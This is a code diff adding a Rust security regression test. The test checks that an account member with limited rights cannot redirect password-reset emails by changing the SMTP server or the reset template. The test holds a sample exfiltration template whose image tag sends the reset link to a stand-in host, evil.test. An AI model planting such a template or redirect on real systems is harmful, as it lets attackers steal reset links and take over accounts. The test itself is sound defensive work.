@@ -485,3 +485,43 @@ async fn r_auth_8_an_account_whose_owner_has_not_proved_their_address_sends_no_e
     })
     .await;
 }
+
+/// Security review of issue 14, finding A: a member holding `account.settings` but fewer rights
+/// than others could point the account's server, or a link-carrying template, at themselves and
+/// catch the reset link a higher admin sends to a stronger member. What decides where secrets
+/// travel is changed only by someone holding every permission (R-PERM-1, decision 0032).
+#[tokio::test]
+async fn r_perm_1_a_settings_holder_with_fewer_rights_cannot_redirect_secrets() {
+    each_backend(|app| async move {
+        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
+        let role = json!({ "name": "Office", "permissions": ["account.settings", "users.view"] });
+        let (status, body) = app.post_json(&format!("/api/v1/accounts/{m}/roles"), Some(&t), &role).await;
+        assert_eq!(status, 201, "{body}");
+        let office = app.seed_members(m, "customer", &[("Oz", "Office", "oz@acme.test")]).await.remove(0);
+        let path = format!("/api/v1/accounts/{m}/users/{}", office.id);
+        let (status, body) = app.send(Method::PATCH, &path, &t, Some(json!({ "role": "Office" }))).await;
+        assert_eq!(status, 200, "{body}");
+        let ot = app.token("oz@acme.test", Some(m)).await;
+        let attacker = SmtpSink::start().await;
+
+        let server =
+            json!({"host": "127.0.0.1", "port": attacker.port, "security": "none", "from_address": "m@evil.test"});
+        let (status, body) = app.send(Method::PUT, &format!("/api/v1/accounts/{m}/smtp"), &ot, Some(server)).await;
+        assert_eq!(status, 403, "the server is refused: {body}");
+        let evil = json!({"subject": "Reset", "text": "{{ link }}",
+            "html": "<p><img src=\"https://evil.test/?{{ link }}\"><a href=\"{{ link }}\">Reset</a></p>"});
+        let secret_template = format!("/api/v1/accounts/{m}/email-templates/password_reset");
+        let (status, body) = app.send(Method::PUT, &secret_template, &ot, Some(evil.clone())).await;
+        assert_eq!(status, 403, "a link-carrying template is refused: {body}");
+        let plain =
+            json!({"subject": "Changed", "text": "Your password changed {{ changed_at }}", "html": "<p>Changed</p>"});
+        let plain_template = format!("/api/v1/accounts/{m}/email-templates/password_changed");
+        let (status, body) = app.send(Method::PUT, &plain_template, &ot, Some(plain)).await;
+        assert_eq!(status, 200, "a template without a secret stays theirs to edit: {body}");
+
+        // The owner, who holds everything, still may.
+        own_server(&app, &t, m, &attacker).await;
+        assert_eq!(app.send(Method::PUT, &secret_template, &t, Some(evil)).await.0, 200);
+    })
+    .await;
+}
